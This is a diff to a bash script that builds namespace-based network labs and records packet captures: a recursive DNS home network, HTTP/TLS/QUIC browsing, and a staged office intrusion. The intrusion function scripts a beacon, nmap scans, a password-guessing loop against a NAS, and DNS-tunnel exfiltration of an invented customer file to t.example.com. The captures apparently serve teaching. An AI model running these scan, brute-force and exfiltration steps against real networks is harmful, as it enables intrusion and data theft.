@@ -305,6 +305,7 @@ http {
 	default_type application/octet-stream;
 	server {
 		${ports:-}
+		${web_server:-}
 		listen 80; listen [::]:80; listen 443 ssl; listen [::]:443 ssl;
 		ssl_protocols TLSv1.2 TLSv1.3;
 		ssl_certificate $work/server.crt; ssl_certificate_key $work/server.key;
@@ -312,6 +313,7 @@ http {
 		dav_methods PUT; create_full_put_path on;
 		error_page 405 =200 \$uri;
 	}
+	${web_more:-}
 }
 END
 	bg "${web_host:-inet}" nginx -c "$work/nginx.conf"
@@ -837,6 +839,360 @@ record_flows() {
 	stop flows.pcap
 }
 
+# record_names: a home whose router looks names up itself, from the root on
+record_names() {
+	lan_ip=192.168.3.1/24 gw_mac=28:80:88:27:6b:a7
+	rules=("192.0.2.4/32,delay=20ms" "192.0.2.53/32,delay=9ms" "198.51.100.0/24,delay=13ms" "203.0.113.0/24,delay=31ms" "*,delay=5ms")
+	cat >"$work/gw.conf" <<END
+port=0
+dhcp-range=192.168.3.100,192.168.3.149,2h
+dhcp-authoritative
+dhcp-host=3c:15:c2:d9:d3:50,laptop,192.168.3.20
+dhcp-option=option:dns-server,192.168.3.1
+END
+	lan; lease_script
+	host laptop 3c:15:c2:d9:d3:50
+	host phone a4:77:33:2f:e0:6e
+	host printer 3c:d9:2b:74:1e:0d
+	host camera 18:b4:30:5a:e4:17
+	address printer 192.168.3.9/24
+	address camera 192.168.3.12/24
+	local h ip
+	for ip in 192.0.2.4 192.0.2.53 203.0.113.53; do on inet ip addr add "$ip/32" dev lo; done
+	on gw dnsmasq -k -C "$work/gw.conf" --pid-file= -u root --no-resolv --no-hosts --interface=br-lan --bind-dynamic \
+		--domain=home.arpa --dhcp-leasefile="$work/leases" >"$work/log.dnsmasq" 2>&1 &
+
+	# The name servers of the root, of org and net, and of two owners of names; each zone as its server has it.
+	local soa='@ SOA ns.example.org. admin.example.org. 1 3600 900 604800 300'
+	cat >"$work/zone.root" <<END
+\$TTL 86400
+$soa
+@ NS root-server.
+root-server. A 192.0.2.4
+org. NS a.nic.org.
+a.nic.org. A 192.0.2.53
+net. NS a.nic.net.
+a.nic.net. A 192.0.2.53
+100.51.198.in-addr.arpa. NS ns.example.org.
+ns.example.org. A 198.51.100.53
+END
+	printf '$TTL 86400\n%s\n@ NS a.nic\na.nic A 192.0.2.53\nexample NS ns.example\nns.example A 198.51.100.53\n' "$soa" >"$work/zone.org"
+	printf '$TTL 86400\n%s\n@ NS a.nic\na.nic A 192.0.2.53\nexample NS ns.example\nns.example A 203.0.113.53\n' "$soa" >"$work/zone.net"
+	cat >"$work/zone.example.org" <<END
+\$TTL 3600
+$soa
+@ NS ns
+@ MX 10 mail
+@ TXT "v=spf1 mx -all"
+ns A 198.51.100.53
+www A 198.51.100.20
+static A 198.51.100.21
+mail A 198.51.100.25
+blog CNAME pages.example.net.
+clock 5 A 198.51.100.123
+END
+	local i
+	for i in {1..14}; do printf 'many TXT "Line %d of a text that does not fit into one small datagram."\n' "$i"; done >>"$work/zone.example.org"
+	printf '$TTL 600\n%s\n@ NS ns\nns A 203.0.113.53\npages A 203.0.113.40\nnews A 203.0.113.41\n' "$soa" >"$work/zone.example.net"
+	printf '$TTL 3600\n%s\n@ NS ns.example.org.\n20 PTR www.example.org.\n' "$soa" >"$work/zone.reverse"
+	view() { # NAME ADDRESS ZONE FILE...
+		printf 'view "%s" { match-destinations { %s; }; recursion no;\n' "$1" "$2"
+		shift 2
+		while (($#)); do printf 'zone "%s" { type master; file "%s/zone.%s"; };\n' "$1" "$work" "$2"; shift 2; done
+		printf '};\n'
+	}
+	{
+		printf 'options { directory "%s"; pid-file none; session-keyfile none; listen-on { any; }; dnssec-validation no; minimal-responses no; };\ncontrols { };\n' "$work"
+		view root 192.0.2.4 . root
+		view tld 192.0.2.53 org org net net
+		view org 198.51.100.53 example.org example.org 100.51.198.in-addr.arpa reverse
+		view net 203.0.113.53 example.net example.net
+	} >"$work/named.conf"
+	bg inet named -g -u root -c "$work/named.conf"
+
+	# The router's resolver, which knows the root's address and nothing else.
+	printf '. 3600000 NS root-server.\nroot-server. 3600000 A 192.0.2.4\n' >"$work/hints"
+	cat >"$work/unbound.conf" <<END
+server:
+	interface: 192.168.3.1
+	access-control: 192.168.3.0/24 allow
+	outgoing-interface: 10.255.0.1
+	do-daemonize: no
+	username: ""
+	chroot: ""
+	pidfile: ""
+	directory: "$work"
+	use-syslog: no
+	root-hints: "$work/hints"
+	module-config: "iterator"
+	do-ip6: no
+	target-fetch-policy: "0 0 0 0 0"
+	local-zone: "100.51.198.in-addr.arpa." nodefault
+	local-zone: "home.arpa." static
+	local-data: "router.home.arpa. A 192.168.3.1"
+	max-udp-size: 4096
+remote-control:
+	control-enable: no
+END
+	on gw unbound -d -c "$work/unbound.conf" >"$work/log.unbound" 2>&1 &
+	sleep 2
+	capture gw br-lan names.pcap
+	capture gw wan0 resolver.pcap
+
+	# The laptop is switched on; the phone comes from another network and asks for the address it had there.
+	join_as laptop 9
+	sleep 0.8
+	cat >"$work/dhcp.phone.leases" <<END
+lease {
+  interface "eth0";
+  fixed-address 10.44.0.57;
+  option subnet-mask 255.255.255.0;
+  option dhcp-lease-time 86400;
+  option dhcp-message-type 5;
+  renew 3 2035/12/01 12:00:00;
+  rebind 3 2035/12/01 12:00:00;
+  expire 3 2035/12/01 12:00:00;
+}
+END
+	join_as phone 3000
+	sleep 0.6
+	ask() { on "$1" dig +tries=1 +time=5 +nocookie @192.168.3.1 "${@:2}" >/dev/null; sleep 0.5; }
+	# From the root on; then the same from the cache, a neighbour of it, an alias in another domain, names that do not exist.
+	ask laptop www.example.org
+	ask phone www.example.org
+	ask laptop static.example.org
+	ask laptop blog.example.org
+	ask phone news.example.net
+	ask laptop nosuch.example.org
+	ask phone nosuch.example.org
+	ask laptop -x 198.51.100.20
+	ask laptop MX example.org
+	# Too large for UDP without EDNS: truncated, and asked again over TCP.
+	on laptop dig +tries=1 +time=5 +noedns @192.168.3.1 TXT many.example.org >/dev/null
+	sleep 0.7
+	# Printer and camera are switched on; they announce themselves while a name that holds for five seconds is asked for again and again.
+	bonjour printer "Office printer" _ipp._tcp 631 "ty=Laser 400"
+	sleep 0.4
+	bonjour camera "Door" _http._tcp 80 "path=/"
+	for i in {1..20}; do on phone dig +tries=1 +time=5 +nocookie @192.168.3.1 clock.example.org >/dev/null; sleep 0.75; done
+	# The laptop looks for them.
+	bonjour laptop
+	sleep 2.5
+	on laptop sh -c "DBUS_SYSTEM_BUS_ADDRESS=unix:path=$work/avahi.laptop.bus timeout 4 avahi-browse -r -t _ipp._tcp" >"$work/log.browse" 2>&1 || true
+	sleep 0.5
+	on laptop sh -c "DBUS_SYSTEM_BUS_ADDRESS=unix:path=$work/avahi.laptop.bus timeout 4 avahi-resolve -4 -n camera.local" >"$work/log.resolve" 2>&1 || true
+	sleep 1
+	on laptop kill "$(<"$work/dhcp.laptop.pid")" 2>/dev/null || true
+	on laptop dhclient -r -q -sf "$work/lease.sh" -cf "$work/dhcp.laptop.conf" -lf "$work/dhcp.laptop.leases" -pf "$work/dhcp.laptop.pid" eth0 >/dev/null 2>&1 || true
+	sleep 1
+	stop names.pcap
+	stop resolver.pcap
+}
+
+# join_as HOST SECONDS: by DHCP, and ask again after that many seconds
+join_as() {
+	on "$1" ip link set eth0 up
+	cat >"$work/dhcp.$1.conf" <<END
+send host-name "$1";
+request subnet-mask, routers, domain-name, domain-name-servers;
+supersede dhcp-renewal-time $2;
+END
+	on "$1" dhclient -4 -1 -q -sf "$work/lease.sh" -cf "$work/dhcp.$1.conf" -lf "$work/dhcp.$1.leases" \
+		-pf "$work/dhcp.$1.pid" eth0 >"$work/log.dhclient.$1" 2>&1
+}
+
+# record_browse: the same pages over HTTP, TLS and QUIC
+record_browse() {
+	lan_ip=192.168.5.1/24 gw_mac=28:80:88:27:6b:a7 mbit=20
+	rules=("198.51.100.0/24,delay=20ms" "*,delay=4ms")
+	: >"$work/gw.conf"
+	lan
+	host laptop 3c:15:c2:d9:d3:50
+	address laptop 192.168.5.20/24
+	local page=$work/www/www.example.org
+	site www.example.org index.html 21840 style.css 4210 app.js 9877 menu.js 5604 print.css 7310 news.txt 3977 about.html 9120
+	# A certificate that has expired, and one of nobody that the laptop trusts.
+	certificate old.example.org
+	(cd "$work" && openssl req -newkey rsa:2048 -nodes -keyout old.key -out old.csr -subj "/CN=old.example.org" 2>/dev/null
+		openssl ca -config <(ca_config) -batch -notext -in old.csr -out old.leaf -startdate 20240101000000Z -enddate 20250101000000Z 2>/dev/null
+		cat old.leaf sub.crt >old.crt
+		openssl req -x509 -newkey rsa:2048 -nodes -keyout self.key -out self.crt -days 365 -subj "/CN=self.example.org" \
+			-addext "subjectAltName=DNS:self.example.org" 2>/dev/null)
+	certificate www.example.org example.org
+	local web_server='keepalive_timeout 20; gzip on; gzip_types text/css text/javascript; gzip_min_length 200; add_header Alt-Svc "h3=\":443\"; ma=86400";
+		location = /start { return 301 /index.html; }
+		location ~ \.(css|js|txt)$ { add_header Cache-Control "max-age=600"; }'
+	local web_more="server { listen 198.51.100.40:443 ssl; ssl_certificate $work/old.crt; ssl_certificate_key $work/old.key; ssl_protocols TLSv1.2; root $page; }
+	server { listen 198.51.100.41:443 ssl; ssl_certificate $work/self.crt; ssl_certificate_key $work/self.key; ssl_protocols TLSv1.2; root $page; }"
+	for ip in 198.51.100.40 198.51.100.41; do on inet ip addr add "$ip/32" dev lo; done
+	web 198.51.100.20
+	names "${home_names[@]}" --host-record=old.example.org,198.51.100.40 --host-record=self.example.org,198.51.100.41
+	(cd "$here/h3" && go build -o "$work/h3" .)
+	QUIC_GO_DISABLE_CLIENTHELLO_SCRAMBLING=true bg inet "$work/h3" serve "$page" "$work/server.crt" "$work/server.key" 198.51.100.20:443
+	sleep 1
+	mkdir -p "$work/got"
+	local files=(index.html style.css app.js menu.js print.css news.txt) f url=http://www.example.org
+	capture laptop eth0 browse.pcap
+
+	# Six files: a connection for each, then one for all, then three at once.
+	for f in "${files[@]}"; do fetch laptop --http1.0 "$url/$f"; done
+	sleep 1
+	fetch laptop "$url/{index.html,style.css,app.js,menu.js,print.css,news.txt}"
+	sleep 1
+	fetch laptop --parallel --parallel-immediate --parallel-max 3 "$url/{index.html,style.css,app.js,menu.js,print.css,news.txt}"
+	sleep 1
+	# Once more, from memory: not modified; then the page has changed. Packed; moved; not there.
+	fetch laptop --etag-save "$work/etag" "$url/about.html"
+	sleep 0.4
+	fetch laptop --etag-compare "$work/etag" "$url/about.html"
+	sleep 0.4
+	text 9410 >"$page/about.html"
+	fetch laptop --etag-compare "$work/etag" "$url/about.html"
+	sleep 0.4
+	fetch laptop --compressed "$url/style.css"
+	fetch laptop -L "$url/start"
+	fetch laptop "$url/gone.html"
+	sleep 1
+	# TLS 1.2, TLS 1.3, TLS 1.3 once more in a new connection that knows the first; two certificates that are refused.
+	fetch laptop --http1.1 --tls-max 1.2 https://www.example.org/index.html
+	sleep 0.7
+	fetch laptop --http1.1 -H "Connection: close" https://www.example.org/{index.html,index.html}
+	sleep 0.7
+	fetch laptop https://old.example.org/index.html 2>/dev/null || true
+	fetch laptop https://self.example.org/index.html 2>/dev/null || true
+	sleep 0.7
+	# QUIC, and QUIC once more.
+	QUIC_GO_DISABLE_CLIENTHELLO_SCRAMBLING=true on laptop "$work/h3" get "$work/ca.crt" https://www.example.org/{,style.css,app.js,menu.js,print.css,news.txt}
+	sleep 0.5
+	stop browse.pcap
+}
+
+# ca_config: openssl's, to sign with dates of one's own
+ca_config() {
+	: >"$work/ca.index"; echo 1000 >"$work/ca.serial"
+	cat <<END
+[ca]
+default_ca = netlab
+[netlab]
+database = $work/ca.index
+serial = $work/ca.serial
+new_certs_dir = $work
+certificate = $work/sub.crt
+private_key = $work/sub.key
+default_md = sha256
+policy = any
+x509_extensions = names
+[any]
+commonName = supplied
+[names]
+subjectAltName = DNS:old.example.org
+END
+}
+
+# record_incident: an office day with a machine in it that works for somebody else
+record_incident() {
+	lan_ip=192.168.30.1/24 gw_mac=00:1b:54:0c:77:21 mbit=16
+	rules=("198.51.100.0/24,delay=9ms" "203.0.113.0/24,delay=34ms" "*,delay=5ms")
+	: >"$work/gw.conf"
+	lan
+	host ws1 d4:be:d9:3f:21:11
+	host ws2 d4:be:d9:3f:2c:12
+	host ws3 f0:18:98:44:d7:13
+	host nas 00:11:32:8b:46:f0
+	host printer 3c:d9:2b:74:1e:0d
+	address ws1 192.168.30.21/24
+	address ws2 192.168.30.22/24
+	address ws3 192.168.30.23/24
+	address nas 192.168.30.10/24
+	address printer 192.168.30.9/24
+	certificate www.example.org news.example.net cdn.example.net static.example.org
+	site www.example.org index.html 21840 rates.html 12600
+	site news.example.net index.html 26300 front.jpg 31800
+	site cdn.example.net poll 48 task 220
+	site static.example.org style.css 14210 logo.png 5604
+	web 198.51.100.20 198.51.100.21 198.51.100.30 203.0.113.44
+	names "${home_names[@]}" --host-record=cdn.example.net,203.0.113.44 --local=/example.com/ \
+		--txt-record=example.com,ok --address=/t.example.com/203.0.113.99
+	# The disk of the office: files behind a password, and other services.
+	mkdir -p "$work/nas/files"
+	customers >"$work/nas/files/customers.csv"
+	text 700 >"$work/nas/files/list.txt"
+	printf 'admin:%s\n' "$(openssl passwd -apr1 summer2024)" >"$work/nas.passwd"
+	cat >"$work/nas.conf" <<END
+daemon off; worker_processes 1; pid $work/nas.pid; error_log $work/nas.log; user root;
+events { worker_connections 64; }
+http { access_log off; server_tokens off;
+	client_body_temp_path $work/n1; proxy_temp_path $work/n2; fastcgi_temp_path $work/n3; uwsgi_temp_path $work/n4; scgi_temp_path $work/n5;
+	server { listen 192.168.30.10:80; listen 192.168.30.10:445; root $work/nas; default_type text/csv;
+		location /files { autoindex on; auth_basic "files"; auth_basic_user_file $work/nas.passwd; } } }
+END
+	bg nas nginx -c "$work/nas.conf"
+	on nas nc -l -k 192.168.30.10 22 </dev/null >/dev/null 2>&1 &
+	on nas nc -l -k 192.168.30.10 3306 </dev/null >/dev/null 2>&1 &
+	sleep 1
+	mkdir -p "$work/got"
+	capture gw br-lan incident.pcap
+
+	# The office works, all the time.
+	{
+		for _ in 1 2 3; do
+			fetch ws1 "https://news.example.net/{index.html,front.jpg}"; sleep 3.1
+			fetch ws3 https://www.example.org/rates.html; sleep 4.3
+			on ws3 ping -q -c 2 -i 0.4 192.168.30.10 >/dev/null
+			fetch ws2 https://www.example.org/index.html; sleep 5.6
+			fetch ws1 -u admin:summer2024 http://192.168.30.10/files/list.txt; sleep 2.7
+			fetch ws3 "https://static.example.org/{style.css,logo.png}"; sleep 4.9
+		done
+	} &
+	local office=$!
+	# Workstation 2 asks somebody every four seconds or so whether there is something to do.
+	{
+		local wait
+		for wait in 3.9 4.1 4.0 3.8 4.2 4.0 4.1 8.1 3.9 4.0 4.2 3.9 4.1 4.0 3.8; do
+			fetch ws2 -A "updater/1.0" https://cdn.example.net/poll; sleep "$wait"
+		done
+	} &
+	local beacon=$!
+	sleep 9
+	# There is: who is here, and what has the disk to offer?
+	on ws2 nmap -n -sn -T4 192.168.30.1-40 >"$work/log.nmap1" 2>&1
+	sleep 1.5
+	on ws2 nmap -n -Pn -sS -T4 --max-retries 1 -F 192.168.30.10 >"$work/log.nmap2" 2>&1
+	sleep 2.5
+	# Passwords, one after the other; then the file.
+	local word
+	for word in admin password 123456 12345678 qwerty letmein welcome office nas synology test root default admin123 secret changeme \
+		winter2023 spring2024 monday dragon summer2023 summer2024; do
+		on ws2 curl -s -o /dev/null -A "Mozilla/5.0 (netlab)" -u "admin:$word" http://192.168.30.10/files/ || true
+		sleep 0.12
+	done
+	sleep 1.2
+	on ws2 curl -s -A "Mozilla/5.0 (netlab)" -u admin:summer2024 -o "$work/got/customers.csv" http://192.168.30.10/files/customers.csv
+	sleep 3
+	# Out it goes, in the names of hosts that nobody has: 30 bytes a label, two labels a name.
+	local n=0 line
+	gzip -n -9 -c "$work/got/customers.csv" >"$work/loot.gz"
+	base32 -w 96 "$work/loot.gz" | tr A-Z= a-z8 | while read -r line; do
+		[[ ${#line} -le 48 ]] || line=${line:0:48}.${line:48}
+		on ws2 dig +short +tries=1 +time=3 +nocookie "$n.$line.t.example.com" >/dev/null
+		n=$((n + 1)); sleep 0.14
+	done
+	wait "$beacon" "$office"
+	sleep 0.5
+	stop incident.pcap
+}
+
+# customers: a list of invented people
+customers() {
+	awk 'BEGIN {
+		srand(7); print "number,name,street,town,balance"
+		split("Ada Ben Cleo Dora Emil Finn Greta Hugo Ida Jan Kira Leo", first); split("Abel Brook Cole Dane Ester Frey Gold Hart Iver Jost", last)
+		split("Mill Lane,High Street,Station Road,Park Row,Church Walk", street, ","); split("Northam,Easton,Southby,Westwick", town, ",")
+		for (i = 1; i <= 300; i++) printf "%d,%s %s,%s %d,%s,%d.%02d\n", 1000 + i, first[1 + int(rand() * 12)], last[1 + int(rand() * 10)], \
+			street[1 + int(rand() * 5)], 1 + int(rand() * 90), town[1 + int(rand() * 4)], rand() * 900, rand() * 100
+	}'
+}
+
 # record_odd: link layers and packets that only teach decoders
 record_odd() {
 	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7 rules=("*,delay=6ms")
@@ -923,11 +1279,11 @@ record_odd() {
 need ip iproute2 nft nftables traceroute traceroute arping iputils-arping ethtool ethtool tcpdump tcpdump dnsmasq dnsmasq-base nginx nginx-light curl curl openssl openssl \
 	dhclient isc-dhcp-client avahi-daemon avahi-daemon avahi-browse avahi-utils dbus-daemon dbus-daemon \
 	chronyd chrony nc netcat-openbsd logger bsdutils hostname hostname ssh openssh-client dropbear dropbear-bin unshare util-linux \
-	dig bind9-dnsutils ping iputils-ping pkill procps go golang-go
+	named bind9 unbound unbound nmap nmap dig bind9-dnsutils ping iputils-ping pkill procps go golang-go
 [[ -z $(ip netns list | awk -v p="^$prefix-" '$1 ~ p') ]] || die "another run is under way (ip netns list)"
 (cd "$here" && go build -o "$rig" ./rig)
 
-(($#)) || set -- ten web morning bulk exfil leak path flows odd
+(($#)) || set -- ten web morning bulk exfil leak path flows names browse incident odd
 for name; do
 	declare -F "record_$name" >/dev/null || die "no capture $name"
 	# A shell of its own, so that no setting of one recording reaches the next.
